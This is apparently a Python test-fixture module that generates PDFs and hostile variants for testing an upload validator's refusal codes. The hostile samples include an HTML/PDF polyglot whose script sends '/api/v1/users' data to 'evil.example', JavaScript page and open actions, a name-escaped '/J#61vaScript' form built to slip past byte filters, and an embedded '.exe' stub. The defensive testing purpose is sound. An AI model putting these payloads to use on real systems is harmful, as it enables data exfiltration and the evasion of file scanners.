"""Small real PDFs for tests, made with reportlab (the same library the letters use), and hostile
ones rewritten from them with pypdf."""

from __future__ import annotations

import io
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from reportlab.pdfgen import canvas


def make_pdf(text: str = "Surat Permohonan Fasilitas Zoom Meeting") -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, invariant=1)
    page.drawString(72, 760, text)
    page.showPage()
    page.save()
    return buffer.getvalue()


# --------------------------------------------------------------------------- hostile files


def html_with_pdf_header() -> bytes:
    """An HTML page that starts like a PDF: a browser sniffing it would run its script."""
    return (
        b"%PDF-1.7\n<!-- surat -->\n<html><body><script>fetch('/api/v1/users')"
        b".then(r => r.text()).then(t => new Image().src = '//evil.example/?' + t)"
        b"</script></body></html>\n%%EOF\n"
    )


def _rewritten(change: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _script(code: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
    )


def pdf_with_javascript(where: str) -> bytes:
    """A real PDF that runs a script: ``open_action`` (the document's ``/OpenAction``),
    ``page_action`` (a page's ``/AA``), ``names`` (the document-level JavaScript name tree) or
    ``escaped`` (the ``/OpenAction`` with its names written ``/J#61vaScript`` and ``/J#53``, as
    a filter looking for the bytes would miss them)."""

    def open_action(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = _script("app.alert('surat')")

    def page_action(writer: PdfWriter) -> None:
        writer.pages[0][NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): _script("app.launchURL('https://evil.example')")}
        )

    def names(writer: PdfWriter) -> None:
        writer.add_open_action(JavaScript("this.print({bUI: false})"))

    if where == "escaped":
        return (
            _rewritten(open_action)
            .replace(b"/JavaScript", b"/J#61vaScript")
            .replace(b"/JS", b"/J#53")
        )
    return _rewritten(
        {"open_action": open_action, "page_action": page_action, "names": names}[where]
    )


def pdf_with_embedded_file(where: str) -> bytes:
    """A real PDF that carries a file: ``attachment`` (the ``/EmbeddedFiles`` name tree) or
    ``annotation`` (a ``/FileAttachment`` annotation on the page)."""

    def attachment(writer: PdfWriter) -> None:
        writer.add_attachment("lampiran.exe", b"MZ\x90\x00 not really a program")

    def annotation(writer: PdfWriter) -> None:
        note = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (72, 700, 92, 720)]),
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([note])

    return _rewritten({"attachment": attachment, "annotation": annotation}[where])


HOSTILE_LETTERS: dict[str, tuple[Callable[[], bytes], str]] = {
    "html with a PDF header": (html_with_pdf_header, "not_a_pdf"),
    "javascript on opening": (lambda: pdf_with_javascript("open_action"), "pdf_has_javascript"),
    "javascript on a page": (lambda: pdf_with_javascript("page_action"), "pdf_has_javascript"),
    "javascript by name": (lambda: pdf_with_javascript("names"), "pdf_has_javascript"),
    "javascript escaped": (lambda: pdf_with_javascript("escaped"), "pdf_has_javascript"),
    "embedded file": (lambda: pdf_with_embedded_file("attachment"), "pdf_has_embedded_files"),
    "file annotation": (lambda: pdf_with_embedded_file("annotation"), "pdf_has_embedded_files"),
}
"""Each hostile upload by name: how to make it, and the ``code`` it must be refused with."""
